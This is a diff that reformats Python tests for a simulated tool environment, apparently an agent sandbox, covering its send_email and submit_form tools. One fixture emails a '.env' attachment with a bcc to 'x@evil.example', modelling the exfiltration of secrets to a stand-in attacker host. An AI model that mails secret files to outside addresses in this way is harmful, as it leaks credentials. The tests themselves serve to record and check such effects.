@@ -23,8 +23,16 @@ def test_list_read_search(env):
 
 
 def test_send_email_resolves_recipients_attachments_and_payload(env):
-    outcome = call(env, "send_email", to=["Pat@Partner.example"], cc=["ops@acme.example"], bcc=["x@evil.example"],
-                   subject="Numbers", body="see attached", attachments=[".env", "d-1"])
+    outcome = call(
+        env,
+        "send_email",
+        to=["Pat@Partner.example"],
+        cc=["ops@acme.example"],
+        bcc=["x@evil.example"],
+        subject="Numbers",
+        body="see attached",
+        attachments=[".env", "d-1"],
+    )
     assert outcome.ok
     fx = last(env).effect
     assert fx["recipients"] == ["ops@acme.example", "pat@partner.example", "x@evil.example"]
@@ -63,8 +71,9 @@ def test_open_search_and_404(env):
 
 
 def test_submit_form_records_destination_and_every_field(env):
-    assert call(env, "submit_form", url="https://portal.acme.example/session",
-                fields={"user": "dana", "password": "hunter2"}).ok
+    assert call(
+        env, "submit_form", url="https://portal.acme.example/session", fields={"user": "dana", "password": "hunter2"}
+    ).ok
     fx = last(env).effect
     assert fx["host"] == "portal.acme.example" and fx["fields"] == {"user": "dana", "password": "hunter2"}
     assert not call(env, "submit_form", url="https://news.example/today", fields={"a": "b"}).ok
